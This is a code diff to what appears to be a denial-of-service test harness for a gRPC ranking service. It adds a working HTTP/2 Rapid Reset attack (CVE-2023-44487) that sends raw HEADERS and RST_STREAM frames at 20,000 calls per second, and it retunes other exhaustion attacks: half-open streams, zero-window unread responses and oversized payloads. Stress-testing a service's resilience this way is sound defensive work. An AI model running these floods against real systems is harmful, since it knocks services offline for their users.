@@ -5,6 +5,7 @@ They are allowed everything that the network allows; none has a credential, none
 
 import os
 import socket
+import struct
 import sys
 import threading
 import time
@@ -13,12 +14,14 @@ from urllib.parse import urlsplit
 
 import grpc
 from rankd_client.v1 import completion_pb2, quality_pb2, rank_pb2
-from support.http2 import Connection
+from support.http2 import END_HEADERS, HEADERS, RST, Connection, frame, headers
 from support.wire import completion, completion_stub, item, quality_stub, rank_stub, request
 
 RANK, STREAM = "rankd.v1.RankService/Rank", "rankd.v1.RankService/RankStream"
 REPORT = "rankd.v1.CompletionService/ReportCompletions"
 MILLIONS = 7_500_000
+RESETS = 20_000
+"""Calls a second that are taken back."""
 
 
 def empties(tag: int, count: int) -> bytes:
@@ -90,7 +93,7 @@ def bombs(target: str, _page: str, seconds: float) -> None:
             else:
                 line.unary_unary(f"/{path}")(payload, timeout=5, compression=compression)
 
-    forever(seconds, act, threads=3)
+    forever(seconds, act)
 
 
 def page_readers(_target: str, page: str, seconds: float) -> None:
@@ -111,26 +114,35 @@ def page_readers(_target: str, page: str, seconds: float) -> None:
             time.sleep(0.02)
         if len(lines) > 400:
             lines.pop(0).close()
-        time.sleep(0.002)
+        time.sleep(0.01)
 
 
 def resets(target: str, _page: str, seconds: float) -> None:
-    """Open calls and cancel them at once (CVE-2023-44487)."""
+    """Open calls and cancel them at once (CVE-2023-44487): 20,000 a second; on a new connection when one is cut."""
 
     def act() -> None:
         line = Connection(target)
         try:
-            for _ in range(2000):
-                line.reset(line.open(RANK))
-            line.take_all()
+            while True:
+                began = time.monotonic()
+                frames = [opened_and_reset(2 * (n + 1) + line.stream) for n in range(200)]
+                line.stream += 400
+                line.socket.sendall(b"".join(frames))
+                line.take_all()
+                time.sleep(max(0.0, began + 200 / RESETS - time.monotonic()))
         finally:
             line.close()
 
-    forever(seconds, act, threads=2)
+    forever(seconds, act)
+
+
+def opened_and_reset(stream: int) -> bytes:
+    """The frames of a call that is taken back at once."""
+    return frame(HEADERS, END_HEADERS, stream, headers(RANK)) + frame(RST, 0, stream, struct.pack(">I", 8))
 
 
 def half_open(target: str, _page: str, seconds: float) -> None:
-    """Open calls, and never say what is wanted, or only how long it will be."""
+    """Open 10,000 calls over twenty connections, and never say what is wanted, or only how long it will be."""
     lines = []
 
     def act() -> None:
@@ -142,24 +154,24 @@ def half_open(target: str, _page: str, seconds: float) -> None:
                 line.begin(stream, 4096)
         if len(lines) > 20:
             lines.pop(0).close()
-        time.sleep(0.5)
+        time.sleep(1.0)
 
     forever(seconds, act)
 
 
 def unread(target: str, _page: str, seconds: float) -> None:
-    """Ask, and let no byte of an answer through: a window of nothing."""
+    """Ask, and let no byte of an answer through: a window of nothing; a hundred answers every two seconds."""
     asked = request(*(item(f"{n:04d}" * 8, None) for n in range(300))).SerializeToString()
     lines = []
 
     def act() -> None:
         line = Connection(target, window=0)
         lines.append(line)
-        for _ in range(400):
+        for _ in range(100):
             line.open(RANK, data=asked)
-        if len(lines) > 8:
+        if len(lines) > 30:
             lines.pop(0).close()
-        time.sleep(0.2)
+        time.sleep(2.0)
 
     forever(seconds, act)
 
@@ -178,7 +190,7 @@ def greedy(target: str, _page: str, seconds: float) -> None:
         stub.Rank(long, timeout=5)
         send(report, timeout=5)
 
-    forever(seconds, act, threads=2)
+    forever(seconds, act)
 
 
 def watchers(target: str, _page: str, seconds: float) -> None:
